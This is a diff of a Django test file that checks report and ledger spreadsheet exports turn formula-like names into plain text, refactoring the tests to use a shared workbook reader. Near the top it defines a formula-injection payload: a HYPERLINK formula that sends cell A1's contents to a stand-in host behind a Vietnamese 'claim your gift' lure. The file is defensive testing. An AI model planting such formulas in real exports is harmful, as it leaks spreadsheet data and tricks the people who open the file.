@@ -7,12 +7,12 @@ from decimal import Decimal
 
 import pytest
 from django.urls import reverse
-from openpyxl import load_workbook
 
 from campaigns import services
 from core.spreadsheets import safe_cell, safe_row
 from reports.models import Indicator, IndicatorGroup
 from tests import factories
+from tests.readers import xlsx_workbook
 
 HOSTILE_NAME = '=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm để nhận quà")'
 
@@ -122,9 +122,7 @@ def test_indicator_texts_are_never_formulas_in_report_workbooks(login, world, ur
     _formula_indicator()
     client = login(world.users["admin"])
     response = client.get(reverse(url_name, args=args(world)))
-    assert response.status_code == 200
-    workbook = load_workbook(io.BytesIO(response.content))
-    cells = _texts(workbook)
+    cells = _texts(xlsx_workbook(response))
     assert all(cell.data_type != "f" for cell in cells)
     values = [cell.value for cell in cells]
     assert any(value.startswith("'" + FORMULA_NAME) for value in values)
@@ -136,6 +134,6 @@ def test_a_fund_named_like_a_formula_is_plain_text_in_its_ledger(login, world):
     fund = factories.fund(ward_obj=world.ward_x, name="=1+1")
     client = login(world.users["ward_officer"])
     response = client.get(reverse("campaigns:ledger_xlsx", args=[world.ward_x.code, fund.pk]))
-    cells = _texts(load_workbook(io.BytesIO(response.content)))
+    cells = _texts(xlsx_workbook(response))
     assert all(cell.data_type != "f" for cell in cells)
     assert cells[0].value.startswith("Sổ quỹ =1+1")
